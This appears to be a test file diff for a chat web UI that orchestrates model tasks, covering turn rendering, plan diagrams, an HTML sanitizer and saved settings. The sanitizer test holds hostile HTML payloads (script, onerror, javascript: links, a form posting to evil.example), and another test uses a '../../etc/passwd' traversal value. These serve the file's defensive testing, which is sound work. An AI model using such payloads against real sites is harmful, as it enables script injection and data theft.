@@ -1,0 +1,285 @@
+"""The chat's rendering without a server: events to one nested turn, the plan diagram, the HTML
+allow-list, this browser's saved conversations and the Settings panel's field checks."""
+
+import re
+import time
+from pathlib import Path
+
+from fakes.endpoints import FakeEndpoint
+
+from hugginggpt.artifacts import Artifact
+from hugginggpt.catalog import Catalog
+from hugginggpt.config import Settings
+from hugginggpt.events import (
+    AnswerDelta,
+    Done,
+    ErrorKind,
+    ModelSelected,
+    Outcome,
+    PlanReady,
+    PlanRejected,
+    Stage,
+    StageStarted,
+    TaskFailed,
+    TaskFinished,
+    TaskSkipped,
+    TaskStarted,
+)
+from hugginggpt.plan import Plan, Task
+from webui import saved
+from webui.plan_graph import plan_mermaid
+from webui.render import RunView, model_link, plan_markdown, user_message
+from webui.safe_html import clean
+from webui.session_settings import LLMChoice
+from webui.settings_panel import field_problems, status_for
+
+PLAN = Plan(
+    [
+        Task(0, "object-detection", [-1], {"image": "street.png"}),
+        Task(1, "image-to-text", [0], {"image": "<resource>-0"}),
+        Task(2, "text-to-image", [1], {"text": "<resource>-1"}),
+        Task(3, "text-to-speech", [1], {"text": "<resource>-1"}),
+    ]
+)
+
+
+def read(title):
+    return re.sub(r"<[^>]+>", "", title or "")
+
+
+def by_title(view):
+    return {read(m["metadata"]["title"]): m for m in view.messages if m.get("metadata")}
+
+
+def run_view(tmp_path, *, rejected=True):
+    clock = iter(range(1000))
+    view = RunView("r1", clock=lambda: float(next(clock)))
+    view.feed(StageStarted(Stage.PLAN))
+    if rejected:
+        view.feed(PlanRejected(1, ["task 0: argument 'image' names 'b.png', which is not a file here"]))
+    view.feed(PlanReady(PLAN, 2 if rejected else 1))
+    view.feed(StageStarted(Stage.SELECT))
+    view.feed(
+        ModelSelected(
+            0, "object-detection", "facebook/detr-resnet-50", "best boxes", ["facebook/detr-resnet-50", "x/y"]
+        )
+    )
+    view.feed(StageStarted(Stage.EXECUTE))
+    view.feed(TaskStarted(0, "object-detection", "facebook/detr-resnet-50"))
+    boxes = tmp_path / "boxes.png"
+    view.feed(
+        TaskFinished(
+            0,
+            "object-detection",
+            "facebook/detr-resnet-50",
+            [Artifact("image", path=boxes), Artifact("data", value=[])],
+            1.5,
+        )
+    )
+    view.feed(TaskStarted(1, "image-to-text", "a/cap"))
+    view.feed(TaskFinished(1, "image-to-text", "a/cap", [Artifact("text", value="a red car")], 0.5))
+    view.feed(TaskStarted(2, "text-to-image", "a/paint"))
+    view.feed(TaskFailed(2, "text-to-image", "a/paint", "out of memory", final=False))
+    view.feed(TaskStarted(2, "text-to-image", "b/paint", attempt=2))
+    picture = tmp_path / "car.png"
+    view.feed(TaskFinished(2, "text-to-image", "b/paint", [Artifact("image", path=picture)], 3.14))
+    view.feed(TaskStarted(3, "text-to-speech", "a/voice"))
+    view.feed(
+        TaskFailed(3, "text-to-speech", "a/voice", "the <b>voice</b> crashed <form action=x>", final=True)
+    )
+    view.feed(StageStarted(Stage.RESPOND))
+    view.feed(AnswerDelta("Here: <button onclick=x>go</button> "))
+    view.feed(AnswerDelta("**done**"))
+    view.feed(Done(Outcome.ANSWERED, answer="x", trace_file=tmp_path / "trace.json"))
+    return view, boxes, picture
+
+
+def test_a_request_is_one_turn_a_work_box_nesting_the_plan_and_its_tasks(tmp_path):
+    view, boxes, picture = run_view(tmp_path)
+    boxes_ = by_title(view)
+    work = view.messages[0]
+    assert work["metadata"]["id"] == "r1-work" and work["metadata"]["status"] == "done"
+    # folded to one summary line: tasks, models, seconds, what failed
+    assert re.fullmatch(r"4 tasks · 3 models · \d+\.\d s · ✕ failed 1", read(work["metadata"]["title"]))
+    plan = boxes_["Plan: 4 tasks (after 2 attempts)"]
+    assert plan["metadata"]["parent_id"] == "r1-work" and plan["metadata"]["id"] == "r1-plan"
+    assert "```mermaid" in plan["content"] and "after task 1" in plan["content"]  # the drawing and the list
+    assert "attempt 1: task 0: argument 'image' names 'b.png'" in plan["content"]  # the rejection is kept
+    tasks = [m for m in view.messages if (m.get("metadata") or {}).get("parent_id") == "r1-plan"]
+    assert [read(m["metadata"]["title"]) for m in tasks] == [
+        "Task 0 · object-detection · facebook/detr-resnet-50 · ✓ done",
+        "Task 1 · image-to-text · a/cap · ✓ done",
+        "Task 2 · text-to-image · b/paint · ✓ done",
+        "Task 3 · text-to-speech · a/voice · ✕ failed",
+    ]
+    assert all(m["metadata"]["status"] == "done" for m in tasks)  # no spinner left
+    assert "log" not in tasks[2]["metadata"]  # the retry note went with the retry
+    assert tasks[2]["content"].startswith(
+        "[a/paint](https://huggingface.co/a/paint) failed: out of memory; trying"
+    )
+    assert "Attempt 2: trying [b/paint]" in tasks[2]["content"]
+    assert 'class="hg-state hg-failed"' in tasks[3]["metadata"]["title"]  # coloured by CSS
+    assert "**Failed:** the <b>voice</b> crashed <\u200bform action=x>" in tasks[3]["content"]
+    trace = boxes_["Trace of this request (JSON)"]
+    assert trace["metadata"]["parent_id"] == "r1-work" and trace["content"] == {
+        "path": str(tmp_path / "trace.json")
+    }
+
+    # media under the work box, each captioned with the task that made it
+    media = [m for m in view.messages if isinstance(m["content"], list)]
+    assert [m["content"][1]["path"] for m in media] == [str(boxes), str(picture)]
+    assert media[0]["content"][0] == (
+        "*Task 0 · object-detection · facebook/detr-resnet-50 · 1.5 s*"
+        " — boxes drawn on street.png: no objects found"
+    )
+    assert media[1]["content"][0] == "*Task 2 · text-to-image · b/paint · 3.1 s* — from “a red car”"
+    assert media[1]["content"][1]["alt_text"] == "Task 2 (text-to-image): a red car"
+    assert all("parent_id" not in (m.get("metadata") or {}) for m in media)
+    # the answer last, with the LLM's button defused
+    assert view.messages[-1] == {
+        "role": "assistant",
+        "content": "Here: <\u200bbutton onclick=x>go<\u200b/button> **done**",
+    }
+
+
+def test_states_tell_the_truth_skipped_stopped_and_failed_plans():
+    clock = iter(range(1000))
+    view = RunView("r2", clock=lambda: float(next(clock)))
+    view.feed(StageStarted(Stage.PLAN))
+    view.feed(PlanReady(PLAN, 1))
+    view.feed(TaskFailed(0, "object-detection", "", "no model in the catalog can run object-detection", True))
+    view.feed(TaskSkipped(1, "image-to-text", "it needs task 0 (object-detection), which failed"))
+    view.feed(TaskStarted(2, "text-to-image", "a/paint"))
+    view.feed(Done(Outcome.CANCELLED))
+    shown = by_title(view)
+    assert (
+        "**Skipped:** it needs task 0 (object-detection), which failed"
+        in shown["Task 1 · image-to-text · ↷ skipped"]["content"]
+    )
+    assert "Task 2 · text-to-image · a/paint · ■ stopped" in shown  # running when Stop came
+    assert "Task 3 · text-to-speech · ■ stopped" in shown  # never started
+    assert read(view.messages[0]["metadata"]["title"]).startswith("■ stopped after")
+    assert 't3["3 · text-to-speech<br/>stopped"]:::stopped' in shown["Plan: 4 tasks"]["content"]
+
+    view = RunView("r3")
+    view.feed(StageStarted(Stage.PLAN))
+    for attempt in (1, 2, 3):
+        view.feed(PlanRejected(attempt, [f"problem {attempt}"]))
+        assert view.plan_box["metadata"]["log"] == f"attempt {attempt} rejected"  # counts what happened
+    error = "No valid plan after 3 attempts. Last problems: problem 3"
+    view.feed(Done(Outcome.FAILED, error=error, error_kind=ErrorKind.PLAN))
+    assert view.plan_box["metadata"]["title"] == "No valid plan: rejected 3 times"  # agrees with the error
+    assert all(f"attempt {n}: problem {n}" in view.plan_box["content"] for n in (1, 2, 3))
+
+
+def test_the_plan_diagram_colours_by_state_and_keeps_llm_text_out_of_its_syntax():
+    plan = Plan([Task(0, 'evil"]\n  click t0 call alert(1)', [-1], {}), Task(1, "text-to-image", [0, 0], {})])
+    graph = plan_mermaid(plan, {0: "done", 1: "failed"}, {1: "org/pa<i>nter"})
+    assert graph.startswith("```mermaid\nflowchart LR") and graph.endswith("```")
+    assert graph.count("t0 --> t1") == 1 and "classDef failed fill:#fee2e2" in graph
+    assert 't0["0 · evil  click t0 call alert1<br/>done"]:::done' in graph  # quotes, brackets, newlines gone
+    assert 't1["1 · text-to-image<br/>org/painter<br/>failed"]:::failed' in graph
+    assert plan_mermaid(Plan([]), {}, {}) == ""
+    assert "1. **text-to-image** (no arguments) · after task 0, 0 · ✕ failed" in plan_markdown(
+        plan, {1: "failed"}
+    )
+    assert model_link("not a hub id!") == "`not a hub id!`"
+
+
+def test_llm_html_keeps_formatting_and_links_and_loses_forms_scripts_and_handlers():
+    hostile = (
+        '<form action="https://evil.example/k"><input name=key><button>Send</button></form>'
+        "<iframe src=https://evil.example></iframe><script>alert(1)</script><style>*{}</style>"
+        '<img src=x onerror="alert(1)" alt="a cat"><a href="javascript&#58;alert(1)" onclick=x>j</a>'
+        '<a href="https://huggingface.co" target=_top>hub</a><textarea></textarea><select></select>'
+        "<!-- note --><b>bold</b> <svg onload=alert(1)>"
+    )
+    safe = clean(hostile)
+    for tag in re.findall(r"<(/?[a-zA-Z]+)", safe):  # every tag left is allowed
+        assert tag.strip("/").lower() in {"b", "img", "a"}, tag
+    assert '<img src="x" alt="a cat">' in safe and "onerror" not in safe
+    assert "<a>j</a>" in safe  # the javascript: link lost its href
+    assert '<a href="https://huggingface.co">hub</a>' in safe and "target" not in safe
+    assert "<\u200bform action=" in safe  # shown as text, not dropped: the reader sees what the LLM wrote
+    # markdown survives as markdown: quotes, code with comparisons, autolinks
+    markdown = "> a quote\n\n`if a < b && c > d`\n\n<https://huggingface.co>\n\n```python\nx = 1 < 2\n```"
+    assert clean(markdown) == markdown
+    # linear on hostile input (issue 15: no quadratic pattern on untrusted text)
+    started = time.perf_counter()
+    for text in ("<a " + "x=1 " * 200_000, "<" * 500_000, "<a href='" + "x" * 500_000, "<b" * 200_000):
+        clean(text)
+    assert time.perf_counter() - started < 5
+
+
+def test_one_user_bubble_holds_the_text_and_its_files():
+    assert user_message("hi <form>", []) == {"role": "user", "content": "hi <\u200bform>"}
+    both = user_message("caption", ["/w/a.png", "/w/b.wav"])
+    assert both["content"][0] == "caption" and [p["path"] for p in both["content"][1:]] == [
+        "/w/a.png",
+        "/w/b.wav",
+    ]
+
+
+def test_the_browser_store_keeps_keys_titles_and_settings_and_drops_what_it_did_not_write():
+    key = saved.new_key()
+    store = saved.remember(saved.empty(), key, "caption   this\nphoto")
+    assert saved.choices(store) == [("caption this photo", key)] and store["current"] == key
+    for n in range(12):
+        store = saved.remember(store, saved.new_key(), f"request {n}")
+    assert len(saved.choices(store)) == saved.MAX_SAVED and saved.choices(store)[0][0] == "request 11"
+    crafted = {
+        "current": "../../etc/passwd",
+        "conversations": [{"key": "a-session-hash", "title": "x"}, {"key": key, "title": 5}, "junk"],
+        "settings": {"base_url": "http://h/v1", "path": "/etc", "top_k": {"x": 1}},
+    }
+    assert saved.normal(crafted) == {
+        "current": "",
+        "conversations": [],
+        "settings": {"base_url": "http://h/v1"},
+    }
+    assert saved.normal("not a dict") == saved.empty()
+    values = {"base_url": "http://h/v1", "model": "m", "mode": "local", "top_k": 3}
+    assert "api_key" not in saved.with_settings(store, values, keep_key=False, api_key="sk-1")["settings"]
+    assert saved.with_settings(store, values, keep_key=True, api_key="sk-1")["settings"]["api_key"] == "sk-1"
+    assert saved.forget(store, store["current"])["current"] == ""
+
+
+def test_settings_problems_go_to_the_field_they_concern(tmp_path):
+    from webui.chat import ChatApp
+
+    chat = ChatApp(Settings(workdir=str(tmp_path / "ws")), catalog=Catalog([]), endpoint=FakeEndpoint())
+    choice = LLMChoice(base_url="ftp://x", model="m", inference="local", top_k=5)
+    problems = field_problems(chat, choice)
+    assert list(problems) == ["base_url"] and "must start with http://" in problems["base_url"]
+    line = status_for(chat, choice, problems)
+    assert "fix the field marked in Settings" in line and "ftp://" not in line
+    assert field_problems(chat, LLMChoice(base_url="http://127.0.0.1:1/v1")) == {}
+
+
+def test_a_page_left_mid_run_keeps_the_turn_it_showed_as_stopped(llm_server, tmp_path):
+    from app_support import app_settings, photo
+
+    from webui.chat import ChatApp
+
+    chat = ChatApp(
+        app_settings(llm_server, tmp_path / "ws"),
+        catalog=Catalog(
+            __import__("fakes.endpoints", fromlist=["cards"]).cards(("org/slow", "image-to-text", 1))
+        ),
+        endpoint=FakeEndpoint(hanging={"org/slow"}, hang=5),
+    )
+    run = chat.respond(
+        "s1", {"text": "[conv-r] caption", "files": [str(photo(tmp_path / "a.png"))]}, LLMChoice()
+    )
+    for messages, _, _ in run:
+        if any("running" in (m.get("metadata") or {}).get("title", "") for m in messages):
+            break
+    run.close()  # what Gradio does when the page goes away
+    conv = chat.conversation("s1")
+    assert conv.cancel is None and conv.history[0]["content"] == "[conv-r] caption"
+    titles = [read((m.get("metadata") or {}).get("title")) for m in conv.display]
+    assert (
+        "Task 0 · image-to-text · org/slow · ■ stopped" in titles
+        and conv.display[-1]["content"] == "Stopped."
+    )
+    assert Path(conv.workspace.root).is_dir()  # kept for a reload
